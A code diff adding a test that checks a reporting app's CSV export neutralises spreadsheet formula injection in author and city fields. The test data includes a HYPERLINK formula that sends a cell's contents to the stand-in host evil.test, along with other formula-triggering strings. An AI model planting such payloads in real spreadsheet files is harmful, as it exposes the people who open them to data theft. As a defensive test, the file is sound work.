@@ -6,6 +6,7 @@ import { todayIso } from "@shared/dates.ts";
 import { createCadre } from "../../../test/cadres.ts";
 import { createFamilyRegister, ward } from "../../../test/factories.ts";
 import { callerFor, useTestApp } from "../../../test/helpers.ts";
+import { exportReport } from "./reports.ts";
 
 const t = useTestApp();
 const month = todayIso().slice(0, 7);
@@ -55,5 +56,34 @@ describe("report files open in Excel with Indonesian settings", () => {
     expect(cell(5, 2)).toBe(rt.fullName);
     expect([cell(7, 1), cell(7, 2), cell(7, 3)]).toEqual(["Bagian", "Uraian", "Jumlah"]);
     expect([cell(8, 1), cell(8, 2), cell(8, 3)]).toEqual(["Registrasi baru", "Total", 2]);
+  });
+
+  test("CSV: a text cell that starts like a formula (author, city name) is prefixed with ', figures stay numbers", async () => {
+    await createFamilyRegister(t.db, { wardIndex: 12, rw: "003", rt: "004" });
+    const kota = await createCadre(t.db, "kota", { wardIndex: 12 });
+    const author = '=HYPERLINK("http://evil.test/?d="&A1;"Unduh")';
+    for (const [city, name] of [
+      ["-2+3", author],
+      ["@SUM(1)", "+62 Kader"],
+      ["\t=1+1", "\r=1+1"],
+    ]) {
+      const file = await exportReport(
+        t.db,
+        { user: { ...kota, fullName: name ?? "" }, ip: "127.0.0.1" },
+        { month, format: "csv" },
+        city,
+      );
+      const text = Buffer.from(file.base64, "base64").toString("utf8");
+      expect(text.startsWith("\uFEFF")).toBe(true);
+      const parsed = Papa.parse<string[]>(text.slice(1), { delimiter: ";", skipEmptyLines: true });
+      expect(parsed.errors).toEqual([]);
+      const rows = parsed.data;
+      expect(rows[1]).toEqual(["Wilayah", `'${city}`]);
+      expect(rows[4]).toEqual(["Dibuat oleh", `'${name}`]);
+      // Every figure is a plain number: none is negative, none gets the prefix.
+      const figures = rows.slice(6).map((row) => row[2] ?? "");
+      expect(figures.length).toBeGreaterThan(5);
+      for (const figure of figures) expect(figure).toMatch(/^\d+$/);
+    }
   });
 });
